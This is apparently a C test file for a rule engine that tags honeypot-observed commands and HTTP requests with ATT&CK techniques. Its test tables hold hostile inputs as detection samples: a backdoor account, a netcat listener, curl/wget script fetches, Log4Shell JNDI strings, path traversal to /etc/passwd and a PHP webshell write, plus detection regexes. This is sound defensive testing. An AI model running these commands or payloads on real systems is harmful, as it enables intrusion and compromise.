/*
 * The rule_engine lifter, loaded through the real host (loader, rule
 * store, dispatch, hostapi_run), against DECNET's RuleEngineTagger
 * behaviour (decnet-lifters.md sections 1.7, 2.4, 2.5 and 3.0).  DECNET's
 * rules are read from $TTPD_SHARED_DIR at run time.
 *
 * Every behaviour test runs in four configurations (JIT on/off, literal
 * prefilter on/off): the answers must not depend on either.  The
 * prefilter itself is also checked directly: it may only ever skip a
 * search that could not have matched.
 */
#include "config.h"

#include <check.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define PCRE2_CODE_UNIT_WIDTH 8
#include <pcre2.h>

#include "conf.h"
#include "hostapi.h"
#include "json.h"
#include "loader.h"
#include "log.h"
#include "plugin.h"
#include "rules.h"
#include "tag.h"
#include "testutil.h"

#include "../../plugins/rule_engine/pattern_split.h"
#include "../../plugins/rule_engine/prefilter.h"

/* The configurations every behaviour test runs in (loop index). */
static const char *const engine_configs[] = {
	NULL,                                   /* defaults: JIT, prefilter */
	"{\"jit\": false}",
	"{\"prefilter\": false}",
	"{\"jit\": false, \"prefilter\": false}",
};
#define N_CONFIGS (sizeof engine_configs / sizeof engine_configs[0])

struct fx {
	struct registry reg;
	struct ruleset rules;
	struct plugin *p;
	char reports[4096];
	int nreports;
};

static char *
plugins_dir(void)
{
	char *dir;

	ck_assert(asprintf(&dir, "%s/plugins/.libs",
	    tu_env("TTPD_BUILDDIR")) > 0);
	return dir;
}

static void
fx_report(void *ud, const char *msg)
{
	struct fx *fx = ud;
	size_t len = strlen(fx->reports);

	snprintf(fx->reports + len, sizeof fx->reports - len, "%s\n", msg);
	fx->nreports++;
}

/* Load the plugin with a JSON config (or none). */
static void
fx_open(struct fx *fx, const char *config_json)
{
	struct plugin_conf pc;
	ttpd_value *config = NULL;
	char err[1024], *dir = plugins_dir();

	memset(fx, 0, sizeof *fx);
	registry_init(&fx->reg);
	ruleset_init(&fx->rules);
	if (config_json != NULL) {
		config = jv_parse(config_json, strlen(config_json), err,
		    sizeof err);
		ck_assert_msg(config != NULL, "%s", err);
	}
	memset(&pc, 0, sizeof pc);
	pc.name = (char *)"rule_engine";
	pc.config = config;
	pc.origin = (char *)"check_rule_engine:1";
	ck_assert_msg(loader_load(&fx->reg, dir, &pc, err, sizeof err) == 0,
	    "%s", err);
	registry_finish(&fx->reg);
	fx->p = registry_find(&fx->reg, "rule_engine");
	ck_assert(fx->p != NULL);
	if (config != NULL)
		jv_decref(config);
	free(dir);
}

static void
fx_close(struct fx *fx)
{
	registry_free(&fx->reg);        /* releases the rules first */
	ruleset_free(&fx->rules);
}

static void
fx_add_yaml(struct fx *fx, const char *yaml)
{
	char err[512];
	struct rule *r;

	r = rules_parse_buffer("inline.yaml", yaml, strlen(yaml), err,
	    sizeof err);
	ck_assert_msg(r != NULL, "%s", err);
	ruleset_push(&fx->rules, r);
}

/* A rule in DECNET's format; field may be NULL (absent). */
static void
fx_add_rule(struct fx *fx, const char *id, const char *kinds,
    const char *field, const char *pattern, const char *evidence)
{
	char yaml[2048];

	snprintf(yaml, sizeof yaml,
	    "rule_id: %s\n"
	    "rule_version: 1\n"
	    "name: test_%s\n"
	    "applies_to: [%s]\n"
	    "match:\n"
	    "%s%s%s"
	    "  pattern: '%s'\n"
	    "emits:\n"
	    "  - tactic: TA0007\n"
	    "    technique_id: T1082\n"
	    "    confidence: 0.7\n"
	    "evidence_fields: [%s]\n",
	    id, id, kinds, field != NULL ? "  field: '" : "",
	    field != NULL ? field : "", field != NULL ? "'\n" : "", pattern,
	    evidence != NULL ? evidence : "");
	fx_add_yaml(fx, yaml);
}

static void
fx_load_decnet(struct fx *fx)
{
	char *dir;
	const char *dirs[1];

	ck_assert(asprintf(&dir, "%s/reference/decnet/rules",
	    tu_env("TTPD_SHARED_DIR")) > 0);
	dirs[0] = dir;
	ck_assert_int_eq(rules_load_dirs(dirs, 1, &fx->rules, fx_report, fx),
	    0);
	ck_assert_int_eq((int)fx->rules.n, 59);
	free(dir);
}

static int
fx_assign(struct fx *fx)
{
	return registry_assign_rules(&fx->reg, &fx->rules, fx_report, fx);
}

static int64_t
now_ns(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_REALTIME, &ts);
	return (int64_t)ts.tv_sec * 1000000000 + ts.tv_nsec;
}

/* Run one event (payload given as a value); tags appended to out. */
static void
fx_run_value(struct fx *fx, const char *kind, const ttpd_value *payload,
    struct tag_list *out)
{
	struct tag_settings ts = { "v15.1" };
	ttpd_event ev;

	memset(&ev, 0, sizeof ev);
	ev.size = sizeof ev;
	ev.source_kind = kind;
	ev.source_id = "check-1";
	ev.attacker_uuid = "att-check";
	ev.payload = payload;
	ck_assert_int_eq(hostapi_run(fx->p, &ev, &ts, now_ns(), out),
	    TTPD_OK);
}

static void
fx_run_json(struct fx *fx, const char *kind, const char *payload_json,
    struct tag_list *out)
{
	char err[256];
	ttpd_value *payload;

	payload = jv_parse(payload_json, strlen(payload_json), err,
	    sizeof err);
	ck_assert_msg(payload != NULL, "%s: %s", payload_json, err);
	fx_run_value(fx, kind, payload, out);
	jv_decref(payload);
}

/* The event {field: text}; 1 when rule_id fired on it. */
static int
fx_fires(struct fx *fx, const char *kind, const char *field,
    const char *text, const char *rule_id)
{
	struct tag_list tags;
	ttpd_value *payload = jv_new_object();
	size_t i;
	int hit = 0;

	ck_assert(payload != NULL);
	ck_assert_int_eq(jv_object_set_new(payload, field,
	    jv_new_string(text, strlen(text))), TTPD_OK);
	tag_list_init(&tags);
	fx_run_value(fx, kind, payload, &tags);
	for (i = 0; i < tags.n; i++)
		if (strcmp(tags.v[i].rule_id, rule_id) == 0)
			hit = 1;
	tag_list_free(&tags);
	jv_decref(payload);
	return hit;
}

/* ---- DECNET's verified quirks (decnet-lifters.md 3.0) ---- */

struct quirk {
	const char *kind;
	const char *field;
	const char *text;
	const char *rule_id;
	int fires;
};

static const struct quirk quirks[] = {
	/* R0018: \b after \s */
	{ "command", "command_text", "lsb_release -a", "R0018", 0 },
	{ "command", "command_text", "lsb_release", "R0018", 1 },
	{ "command", "command_text", "hostnamectl", "R0018", 1 },
	{ "command", "command_text", "uname -r", "R0018", 1 },
	{ "command", "command_text", "cat /etc/issue", "R0018", 1 },
	/* R0024 */
	{ "command", "command_text", "useradd bob", "R0024", 1 },
	{ "command", "command_text", "useradd -m -s /bin/bash backdoor",
	    "R0024", 0 },
	{ "command", "command_text", "adduser --gecos '' backdoor", "R0024",
	    0 },
	/* R0019: anchored at the string start only */
	{ "command", "command_text", "  sudo whoami", "R0019", 1 },
	{ "command", "command_text", "whoami", "R0019", 1 },
	{ "command", "command_text", "ls; whoami", "R0019", 0 },
	{ "command", "command_text", "whoami; id", "R0019", 0 },
	{ "command", "command_text", "ID", "R0019", 0 },
	{ "command", "command_text", "echo x\nwhoami", "R0019", 0 },
	/* R0029 */
	{ "command", "command_text", " sudo -l", "R0029", 1 },
	{ "command", "command_text", "sudo su", "R0029", 1 },
	{ "command", "command_text", "sudo -u root id", "R0029", 0 },
	/* R0011 variants */
	{ "command", "command_text", "python -c 'print(1)'", "R0011", 1 },
	{ "command", "command_text", "perl -e 'print 1'", "R0011", 1 },
	{ "command", "command_text", "node -e 'x'", "R0011", 1 },
	{ "command", "command_text", "php -r 'x'", "R0011", 0 },
	{ "command", "command_text", "bash -c 'id'", "R0011", 0 },
	{ "command", "command_text", "sh -c id", "R0011", 0 },
	{ "command", "command_text", "/bin/bash -c id", "R0011", 1 },
	{ "command", "command_text", "/bin/bash -c id", "R0010", 1 },
	{ "command", "command_text", "/bin/sh -c id", "R0011", 1 },
	/* R0016: find / vs find . */
	{ "command", "command_text", "find /", "R0016", 1 },
	{ "command", "command_text", "find /etc/", "R0016", 1 },
	{ "command", "command_text", "find .", "R0016", 0 },
	{ "command", "command_text", "find /usr/bin -perm /4000", "R0015",
	    1 },
	{ "command", "command_text", "find /usr/bin -perm /4000", "R0016",
	    1 },
	/* R0017 */
	{ "command", "command_text", "nc -zv 10.0.0.1 22", "R0017", 1 },
	{ "command", "command_text", "NMAP -sV 10.0.0.1", "R0017", 1 },
	{ "command", "command_text", "nc -lvnp 4444", "R0017", 0 },
	/* R0012 */
	{ "command", "command_text", "curl -fsSL https://x.example/i.sh",
	    "R0012", 1 },
	{ "command", "command_text", "wget -O- http://x.example/a", "R0012",
	    1 },
	{ "command", "command_text", "curl -O file", "R0012", 1 },
	/* R0013: \b fires at '-' and '.' */
	{ "command", "command_text", "cat /etc/passwd-", "R0013", 1 },
	{ "command", "command_text", "cat /etc/passwd.bak", "R0013", 1 },
	{ "command", "command_text", "cat /etc/passwdx", "R0013", 0 },
	/* R0025, R0027 */
	{ "command", "command_text", "echo x > /etc/crontab", "R0025", 0 },
	{ "command", "command_text", "printf '<?php eval(..);?>' > shell.php",
	    "R0027", 0 },
	{ "command", "command_text", "echo hi > /var/www/html/a.php",
	    "R0027", 1 },
	/* R0008: case-sensitive, nested lookups only as ${${...}:proto:// */
	{ "http_request", "raw_url", "/?x=${JNDI:ldap://e.example/a}",
	    "R0008", 0 },
	{ "http_request", "raw_url", "/?x=${${lower:j}ndi:ldap://e/a}",
	    "R0008", 0 },
	{ "http_request", "raw_url", "/?x=${jndi:ldaps://e.example/a}",
	    "R0008", 1 },
	{ "http_request", "raw_url", "/?x=${jndi:rmi://e.example/a}",
	    "R0008", 1 },
	{ "http_request", "raw_url", "/?x=${${env:X}:ldap://e/a}", "R0008",
	    1 },
	/* R0009: two consecutive traversal units */
	{ "http_request", "raw_url", "/../", "R0009", 0 },
	{ "http_request", "raw_url", "/a/..%2f..%2fetc/passwd", "R0009", 1 },
	{ "http_request", "raw_url", "/%2E%2E/%2e%2E%2F", "R0009", 1 },
	/* R0007: word boundaries; '_' is a word character */
	{ "http_request", "user_agent", "sqlmapper", "R0007", 0 },
	{ "http_request", "user_agent", "nessus_scan", "R0007", 0 },
	{ "http_request", "user_agent", "OpenVAS-VT", "R0007", 1 },
	{ "http_request", "user_agent", "x-dirbuster-1.0", "R0007", 1 },
	{ "http_request", "user_agent", "sqlmap/1.7#stable", "R0007", 1 },
};

START_TEST(test_decnet_quirks)
{
	struct fx fx;
	size_t i;

	fx_open(&fx, engine_configs[_i]);
	fx_load_decnet(&fx);
	ck_assert_int_eq(fx_assign(&fx), 0);
	/* R0007-R0029 are the engine's; R0001-R0006, R0030+ are not */
	ck_assert_int_eq((int)fx.p->nrules, 23);
	for (i = 0; i < sizeof quirks / sizeof quirks[0]; i++) {
		const struct quirk *q = &quirks[i];

		ck_assert_msg(fx_fires(&fx, q->kind, q->field, q->text,
		    q->rule_id) == q->fires, "config %d: %s on '%s' should %s",
		    _i, q->rule_id, q->text, q->fires ? "fire" : "not fire");
	}
	fx_close(&fx);
}
END_TEST

/* Tags, rule order and emit order for a line that fires two rules. */
START_TEST(test_decnet_order_and_emits)
{
	struct fx fx;
	struct tag_list tags;

	fx_open(&fx, engine_configs[_i]);
	fx_load_decnet(&fx);
	ck_assert_int_eq(fx_assign(&fx), 0);
	tag_list_init(&tags);
	fx_run_json(&fx, "command",
	    "{\"command_text\": \"find /usr/bin -perm /4000\"}", &tags);
	/* R0015 (two emits, YAML order) then R0016 */
	ck_assert_int_eq((int)tags.n, 3);
	ck_assert_str_eq(tags.v[0].rule_id, "R0015");
	ck_assert_str_eq(tags.v[0].technique_id, "T1083");
	ck_assert_str_eq(tags.v[1].rule_id, "R0015");
	ck_assert_str_eq(tags.v[1].technique_id, "T1548");
	ck_assert_str_eq(tags.v[1].sub_technique_id, "T1548.001");
	ck_assert(tags.v[1].confidence == 0.95);
	ck_assert_str_eq(tags.v[2].rule_id, "R0016");
	ck_assert(tags.v[2].confidence == 0.65);
	tag_list_free(&tags);

	/* events of kinds with no pattern rule produce nothing */
	tag_list_init(&tags);
	fx_run_json(&fx, "auth_attempt", "{\"username\": \"root\"}", &tags);
	fx_run_json(&fx, "payload", "{\"payload_text\": \"whoami\"}", &tags);
	ck_assert_int_eq((int)tags.n, 0);
	tag_list_free(&tags);
	fx_close(&fx);
}
END_TEST

/*
 * Tags come in rule order whichever way the engine walks the rules: with
 * one field for all (only the rules whose literals occur are visited,
 * unfiltered ones merged in), and with mixed fields (every rule).
 */
START_TEST(test_rule_order_paths)
{
	static const char *const fields[] = { NULL, "command_text", "mixed" };
	static const struct {
		const char *text, *ids;
	} cases[] = {
		{ "zzqa 1 AB", "A,B,C," },
		{ "hello 2", "B," },
		{ "cd", "C," },
		{ "xyz cd zzqb", "A,C,D," },
		{ "nothing here", "" },
	};
	size_t fi, ci, i;

	for (fi = 0; fi < sizeof fields / sizeof fields[0]; fi++) {
		const char *field = fields[fi] != NULL &&
		    strcmp(fields[fi], "mixed") == 0 ? "command_text" :
		    fields[fi];
		struct fx fx;

		fx_open(&fx, engine_configs[_i]);
		fx_add_rule(&fx, "A", "command", field, "zzq\\w+", NULL);
		/* no literal: searched for every event */
		fx_add_rule(&fx, "B", "command", field, "^\\S+\\s\\d",
		    NULL);
		/* split alternatives, leading option shared */
		fx_add_rule(&fx, "C", "command", field, "(?i)ab|cd", NULL);
		fx_add_rule(&fx, "D", "command", field, "xyz", NULL);
		if (fields[fi] != NULL && strcmp(fields[fi], "mixed") == 0)
			fx_add_rule(&fx, "E", "command", "other", "zzq",
			    NULL);
		ck_assert_int_eq(fx_assign(&fx), 0);
		for (ci = 0; ci < sizeof cases / sizeof cases[0]; ci++) {
			struct tag_list tags;
			char payload[256], got[64] = "";

			snprintf(payload, sizeof payload,
			    "{\"command_text\": \"%s\"}", cases[ci].text);
			tag_list_init(&tags);
			fx_run_json(&fx, "command", payload, &tags);
			for (i = 0; i < tags.n; i++) {
				strcat(got, tags.v[i].rule_id);
				strcat(got, ",");
			}
			ck_assert_msg(strcmp(got, cases[ci].ids) == 0,
			    "field %s, '%s': got %s, want %s",
			    fields[fi] != NULL ? fields[fi] : "(default)",
			    cases[ci].text, got, cases[ci].ids);
			tag_list_free(&tags);
		}
		fx_close(&fx);
	}
}
END_TEST

/* The rule ids of the tags of command line `text`, each followed by ','. */
static void
fired_ids(struct fx *fx, const char *text, char *got, size_t len)
{
	struct tag_list tags;
	char payload[256];
	size_t i;

	snprintf(payload, sizeof payload, "{\"command_text\": \"%s\"}",
	    text);
	tag_list_init(&tags);
	fx_run_json(fx, "command", payload, &tags);
	got[0] = '\0';
	for (i = 0; i < tags.n; i++) {
		strncat(got, tags.v[i].rule_id, len - strlen(got) - 1);
		strncat(got, ",", len - strlen(got) - 1);
	}
	tag_list_free(&tags);
}

/* Replace rule `id` by a new version with `pattern`, the way a
 * hot reload does: the new one keeps the old one's place. */
static void
fx_swap_rule(struct fx *fx, const char *id, const char *pattern)
{
	struct rule *old = ruleset_find(&fx->rules, id), *r;
	char yaml[512], err[512];

	ck_assert_ptr_nonnull(old);
	snprintf(yaml, sizeof yaml, "rule_id: %s\nrule_version: 2\n"
	    "name: test_%s\napplies_to: [command]\nmatch:\n"
	    "  pattern: '%s'\nemits:\n  - tactic: TA0007\n"
	    "    technique_id: T1082\n    confidence: 0.7\n", id, id,
	    pattern);
	r = rules_parse_buffer("inline.yaml", yaml, strlen(yaml), err,
	    sizeof err);
	ck_assert_msg(r != NULL, "%s", err);
	ck_assert_int_eq(registry_prepare_rule(&fx->reg, r, err, sizeof err),
	    1);
	registry_swap_rule(&fx->reg, old, r);
	ck_assert_int_eq(ruleset_replace(&fx->rules, old, r), 0);
	rule_free(old);
}

/*
 * Tags still come in rule order after reloads gave rules literal-filter
 * ids in another order than their places (a new version is prepared
 * while the old one holds its id).
 */
START_TEST(test_rule_order_after_swap)
{
	static const struct {
		const char *text, *ids;
	} cases[] = {
		{ "zzqa 1 xyz qqv", "A,B,C,D," },
		{ "qqv xyz zzqa", "A,C,D," },
		{ "qqv 2 zzqb", "A,B,D," },
		{ "xyz zzqc", "A,C," },
	};
	struct fx fx;
	size_t ci;

	fx_open(&fx, engine_configs[_i]);
	fx_add_rule(&fx, "A", "command", NULL, "zzq\\w+", NULL);
	fx_add_rule(&fx, "B", "command", NULL, "^\\S+\\s\\d", NULL);
	fx_add_rule(&fx, "C", "command", NULL, "xyz", NULL);
	fx_add_rule(&fx, "D", "command", NULL, "qqv", NULL);
	ck_assert_int_eq(fx_assign(&fx), 0);
	fx_swap_rule(&fx, "A", "zzq\\w+");
	fx_swap_rule(&fx, "C", "xyz");
	for (ci = 0; ci < sizeof cases / sizeof cases[0]; ci++) {
		char got[64];

		fired_ids(&fx, cases[ci].text, got, sizeof got);
		ck_assert_msg(strcmp(got, cases[ci].ids) == 0,
		    "'%s': got %s, want %s", cases[ci].text, got,
		    cases[ci].ids);
	}
	fx_close(&fx);
}
END_TEST

/*
 * Rules whose clauses ask for the same literals share their filter ids;
 * a reload that replaces one of them leaves the others' filters whole.
 */
START_TEST(test_shared_filters)
{
	static const char *const pat_a =
	    "\\bqcurl\\b.*\\s-o|\\bqwget\\b.*\\s-O";
	static const char *const pat_b =
	    "\\bqcurl\\b.*\\s-o\\s+/tmp|\\bqwget\\b.*\\s-O\\s+/tmp";
	static const struct {
		const char *text, *both, *b_alone;
	} cases[] = {
		{ "qcurl x -o f", "A,", "" },
		{ "qcurl x -o /tmp/f", "A,B,", "B," },
		{ "qwget -O /tmp/x", "A,B,", "B," },
		{ "qcurlx -o /tmp/f", "", "" },
		{ "qwget -o /tmp/x", "", "" },
	};
	struct fx fx;
	char got[64];
	size_t ci;
	int round;

	fx_open(&fx, engine_configs[_i]);
	fx_add_rule(&fx, "A", "command", NULL, pat_a, NULL);
	fx_add_rule(&fx, "B", "command", NULL, pat_b, NULL);
	ck_assert_int_eq(fx_assign(&fx), 0);
	/* both; A replaced by a rule with nothing in common; A back */
	for (round = 0; round < 3; round++) {
		if (round == 1)
			fx_swap_rule(&fx, "A", "zzqz");
		if (round == 2)
			fx_swap_rule(&fx, "A", pat_a);
		for (ci = 0; ci < sizeof cases / sizeof cases[0]; ci++) {
			const char *want = round == 1 ? cases[ci].b_alone :
			    cases[ci].both;

			fired_ids(&fx, cases[ci].text, got, sizeof got);
			ck_assert_msg(strcmp(got, want) == 0, "round %d, "
			    "'%s': got %s, want %s", round, cases[ci].text,
			    got, want);
		}
	}
	fx_swap_rule(&fx, "B", pat_b);
	fired_ids(&fx, "qwget -O /tmp/x", got, sizeof got);
	ck_assert_str_eq(got, "A,B,");
	fx_close(&fx);
}
END_TEST

/* One rule with a pattern, and whether each text makes it fire. */
struct fire_case {
	const char *pattern, *text;
	int fires;
};

static void
assert_fires(const struct fire_case *cases, size_t n, int config)
{
	size_t i;

	for (i = 0; i < n; i++) {
		struct fx fx;
		struct tag_list tags;
		char payload[256];

		fx_open(&fx, engine_configs[config]);
		fx_add_rule(&fx, "P", "command", "command_text",
		    cases[i].pattern, NULL);
		ck_assert_int_eq(fx_assign(&fx), 0);
		snprintf(payload, sizeof payload,
		    "{\"command_text\": \"%s\"}", cases[i].text);
		tag_list_init(&tags);
		fx_run_json(&fx, "command", payload, &tags);
		ck_assert_msg((int)tags.n == cases[i].fires, "/%s/ on '%s': "
		    "%zu tags", cases[i].pattern, cases[i].text, tags.n);
		tag_list_free(&tags);
		fx_close(&fx);
	}
}

/*
 * Patterns that begin with a group of alternatives are searched part by
 * part, (?:^|;)R as ^R and ;R: the same answers as the whole pattern.
 */
START_TEST(test_leading_group_parts)
{
	static const struct fire_case cases[] = {
		{ "(?:^|[;&|])\\s*wget\\b", "wget x", 1 },
		{ "(?:^|[;&|])\\s*wget\\b", "cd /; wget x", 1 },
		{ "(?:^|[;&|])\\s*wget\\b", "echo wget", 0 },
		{ "(?:^|[;&|])\\s*wget\\b", "awget", 0 },
		/* leading options, a backreference in the rest */
		{ "(?i)(?:^|;)\\s*ab(c)\\1", "ABCC", 1 },
		{ "(?i)(?:^|;)\\s*ab(c)\\1", "x; abcC", 1 },
		{ "(?i)(?:^|;)\\s*ab(c)\\1", "x abcc", 0 },
		/* a quantified group, and a rest with alternatives */
		{ "(?:a|b)+zz", "abzz", 1 },
		{ "(?:^|;)zz|yy", "x yy", 1 },
		{ "(?:^|;)zz|yy", "x zz", 0 },
	};

	assert_fires(cases, sizeof cases / sizeof cases[0], _i);
}
END_TEST

/*
 * Searches that start past the beginning (the literals' first occurrence
 * minus their reach): \b and lookbehinds still see the text before, ^
 * only matches at 0, and a start inside a multi-byte character steps back.
 */
START_TEST(test_search_start_bound)
{
	static const struct fire_case cases[] = {
		{ "\\bcurl\\b[^;]*http", "echo x; curl -s http", 1 },
		{ "\\bcurl\\b[^;]*http", "echo x; xcurl -s http", 0 },
		{ "\\bcurl\\b[^;]*http", "echo x; curl -s; http", 0 },
		{ "(?<=a)curl", "zzzzzzzzacurl", 1 },
		{ "(?<=a)curl", "zzzzzzzz curl", 0 },
		{ "(?<!a)curl", "zzzzzzzzacurl", 0 },
		{ "^curl", "curl x", 1 },
		{ "^curl", "echo curl", 0 },
		{ "(?m)^curl", "echo x\\ncurl", 1 },
		{ "$|x.curl", "echo xxcurl", 1 },
		{ ".curl", "\xf0\x9f\x98\x80\xc3\xa9" "curl", 1 },
		{ ".{2}curl", "a\xf0\x9f\x98\x80\xf0\x9f\x98\x80" "curl", 1 },
		{ "a.{2}curl", "a\xf0\x9f\x98\x80\xf0\x9f\x98\x80" "curl", 1 },
		{ "a.{2}curl", "ab\xf0\x9f\x98\x80\xf0\x9f\x98\x80" "curl", 0 },
		{ "(?i)kcurl", "xxxx\xe2\x84\xaa" "curl", 1 },
		/* a clause with a bounded set, and one without */
		{ "\\bwget\\b.*ftp|\\bnc\\s+-e", "a b c d e f; nc -e x", 1 },
		{ "\\bwget\\b.*ftp|\\bnc\\s+-e", "a b; wget; nc x ftp", 1 },
		{ "\\bwget\\b.*ftp|\\bnc\\s+-e", "a b; wgetnc -e ftp", 0 },
	};

	assert_fires(cases, sizeof cases / sizeof cases[0], _i);
}
END_TEST

/*
 * Patterns with bare ^ alternatives deeper than a leading group are
 * searched as the pattern anchored at 0 and the pattern without them.
 */
START_TEST(test_caret_split)
{
	static const struct fire_case cases[] = {
		{ "\\bzz\\b|(?:^|;)\\s*wget\\b", "wget x", 1 },
		{ "\\bzz\\b|(?:^|;)\\s*wget\\b", "cd; wget", 1 },
		{ "\\bzz\\b|(?:^|;)\\s*wget\\b", "a;wget zz", 1 },
		{ "\\bzz\\b|(?:^|;)\\s*wget\\b", "echo wget", 0 },
		{ "\\bzz\\b|(?:^|;)\\s*wget\\b", "xwget zzz", 0 },
		{ "\\bzz\\b|(?:^|;)\\s*wget\\b", " wget zzz", 1 },
		{ "\\bzz\\b|(?:^|;)\\s*wget\\b", "x wget zzz", 0 },
		{ "x(?:^|;)y", "x;y", 1 },
		{ "x(?:^|;)y", "xy", 0 },
		{ "(?:a|^)b", "b", 1 },
		{ "(?:a|^)b", "cab", 1 },
		{ "(?:a|^)b", "cb", 0 },
		{ "(?<=^|;)wget", "wget", 1 },
		{ "(?<=^|;)wget", "a;wget", 1 },
		{ "(?<=^|;)wget", " wget", 0 },
	};

	assert_fires(cases, sizeof cases / sizeof cases[0], _i);
}
END_TEST

/*
 * Necessary tails: a pattern whose head can span any length and gives
 * PCRE2 no selective first character is first checked by its tail (what
 * follows the head); answers stay those of the whole pattern.
 */
START_TEST(test_necessary_tails)
{
	static const struct fire_case cases[] = {
		{ "[a-z]+\\s+[^;]*qzx\\d", "echo foo qzx1", 1 },
		{ "[a-z]+\\s+[^;]*qzx\\d", "qzx1", 0 },     /* no head */
		{ "[a-z]+\\s+[^;]*qzx\\d", "echo foo qzx", 0 },
		{ "[a-z]+\\s+[^;]*qzx\\d", "echo ;qzx1", 0 },
		/* a lookbehind and \\b see the head's text */
		{ "[a-z]+\\s+\\S*(?<=/)qzx\\b", "ls a/qzx", 1 },
		{ "[a-z]+\\s+\\S*(?<=/)qzx\\b", "ls a qzx", 0 },
		{ "[a-z]+\\s+\\S*(?<=/)qzx\\b", "ls a/qzxy", 0 },
		/* leading options apply to the tail too */
		{ "(?i)[a-z]+\\s+[^;]*QZX\\d", "echo a qzx1", 1 },
		/* a backreference keeps the pattern whole */
		{ "([a-z]+)\\s+[^;]*qzx\\1", "ab x qzxab", 1 },
		{ "([a-z]+)\\s+[^;]*qzx\\1", "ab x qzxcd", 0 },
		/* multi-byte characters in the tail */
		{ "[a-z]+\\s+[^;]*\xc3\xa9\xc3\xa9x", "ab cd \xc3\xa9\xc3\xa9x", 1 },
		{ "[a-z]+\\s+[^;]*\xc3\xa9\xc3\xa9x", "ab cd \xc3\xa9x", 0 },
		/* one alternative's tail, when only its literals occur */
		{ "[a-z]+=[^;]*qzx|\\bww\\b.*kkk", "a=1 qzx", 1 },
		{ "[a-z]+=[^;]*qzx|\\bww\\b.*kkk", "a=1 qzy", 0 },
		{ "[a-z]+=[^;]*qzx|\\bww\\b.*kkk", "a=1; qzx", 0 },
		/* both alternatives' literals occur: those whose tails do
		 * not are dropped before choosing what to search */
		{ "[a-z]+=[^;]*qzx|[a-z]+:[^;]*kkw\\d", "a=1 qzx b:2 kkw", 1 },
		{ "[a-z]+=[^;]*qzx|[a-z]+:[^;]*kkw\\d", "x qzx b:2 kkw1", 1 },
		{ "[a-z]+=[^;]*qzx|[a-z]+:[^;]*kkw\\d", "x qzx b:2 kkw", 0 },
		{ "[a-z]+=[^;]*qzx|[a-z]+:[^;]*kkw\\d", "a=1; qzx b:2 kkw", 0 },
		{ "[a-z]+=[^;]*qzx|[a-z]+:[^;]*kkw\\d", "qzy b:2 kkw1 qzx", 1 },
		/* the command-start prefix of the pack */
		{ "(?:^|[;&|])\\s*(?:[A-Za-z_]\\w*=\\S*\\s+)*(?:[\\w.~-]*/)*"
		  "(?:ba|z)?sh\\s+-c\\b", "x=1; A=2 /bin/bash -c id", 1 },
		{ "(?:^|[;&|])\\s*(?:[A-Za-z_]\\w*=\\S*\\s+)*(?:[\\w.~-]*/)*"
		  "(?:ba|z)?sh\\s+-c\\b", "echo bash -c id", 0 },
		{ "(?:^|[;&|])\\s*(?:[A-Za-z_]\\w*=\\S*\\s+)*(?:[\\w.~-]*/)*"
		  "(?:ba|z)?sh\\s+-c\\b", "sh -cx", 0 },
	};

	assert_fires(cases, sizeof cases / sizeof cases[0], _i);
}
END_TEST

/* ---- evidence ---- */

struct keys {
	char names[16][32];
	int n;
};

static int
collect_key(void *ud, const char *key, const ttpd_value *val)
{
	struct keys *k = ud;

	(void)val;
	ck_assert_int_lt(k->n, 16);
	snprintf(k->names[k->n++], sizeof k->names[0], "%s", key);
	return 0;
}

/* Evidence keys of a tag in order, comma-joined into buf. */
static const char *
evidence_keys(const struct tag *t, char *buf, size_t len)
{
	char err[256];
	ttpd_value *ev = jv_parse(t->evidence, strlen(t->evidence), err,
	    sizeof err);
	struct keys k;
	int i;

	ck_assert_msg(ev != NULL, "%s", err);
	memset(&k, 0, sizeof k);
	jv_object_foreach(ev, collect_key, &k);
	buf[0] = '\0';
	for (i = 0; i < k.n; i++) {
		strncat(buf, i ? "," : "", len - strlen(buf) - 1);
		strncat(buf, k.names[i], len - strlen(buf) - 1);
	}
	jv_decref(ev);
	return buf;
}

START_TEST(test_aux_evidence)
{
	struct fx fx;
	struct tag_list tags;
	char keys[256];
	char err[256];
	ttpd_value *ev;

	fx_open(&fx, engine_configs[_i]);
	fx_add_rule(&fx, "TE001", "command", "command_text", "whoami",
	    "command_text");
	fx_add_rule(&fx, "TE002", "command", "command_text", "whoami",
	    "user, command_text, missing");
	fx_add_rule(&fx, "TE003", "http_request", "raw_url", "admin",
	    "raw_url");
	ck_assert_int_eq(fx_assign(&fx), 0);

	/* payload order differs from uid,user,src,pwd on purpose */
	tag_list_init(&tags);
	fx_run_json(&fx, "command", "{\"pwd\": \"/root\", \"src\": "
	    "\"192.0.2.7\", \"command_text\": \"whoami\", \"other\": 1, "
	    "\"user\": \"root\", \"uid\": 0}", &tags);
	ck_assert_int_eq((int)tags.n, 2);
	ck_assert_str_eq(evidence_keys(&tags.v[0], keys, sizeof keys),
	    "command_text,uid,user,src,pwd");
	/* user already in the evidence: kept in place, not repeated */
	ck_assert_str_eq(evidence_keys(&tags.v[1], keys, sizeof keys),
	    "user,command_text,uid,src,pwd");
	ev = jv_parse(tags.v[0].evidence, strlen(tags.v[0].evidence), err,
	    sizeof err);
	ck_assert(ev != NULL);
	ck_assert_str_eq(jv_string(jv_object_get(ev, "src")), "192.0.2.7");
	ck_assert_int_eq(jv_type(jv_object_get(ev, "uid")), TTPD_VT_INT);
	jv_decref(ev);
	tag_list_free(&tags);

	/* absent aux keys are skipped, a null one is kept as null */
	tag_list_init(&tags);
	fx_run_json(&fx, "command", "{\"command_text\": \"whoami\", "
	    "\"pwd\": null}", &tags);
	ck_assert_int_eq((int)tags.n, 2);
	ck_assert_str_eq(evidence_keys(&tags.v[0], keys, sizeof keys),
	    "command_text,pwd");
	ck_assert_str_eq(tags.v[0].evidence,
	    "{\"command_text\":\"whoami\",\"pwd\":null}");
	tag_list_free(&tags);

	/* only command events get the aux keys */
	tag_list_init(&tags);
	fx_run_json(&fx, "http_request", "{\"raw_url\": \"/admin\", "
	    "\"user\": \"root\", \"src\": \"192.0.2.7\"}", &tags);
	ck_assert_int_eq((int)tags.n, 1);
	ck_assert_str_eq(evidence_keys(&tags.v[0], keys, sizeof keys),
	    "raw_url");
	tag_list_free(&tags);
	fx_close(&fx);
}
END_TEST

/* ---- fields ---- */

START_TEST(test_non_string_field)
{
	static const char *const payloads[] = {
		"{\"command_text\": 42}",
		"{\"command_text\": [\"whoami\"]}",
		"{\"command_text\": {\"a\": \"whoami\"}}",
		"{\"command_text\": null}",
		"{\"command_text\": true}",
		"{\"other\": \"whoami\"}",
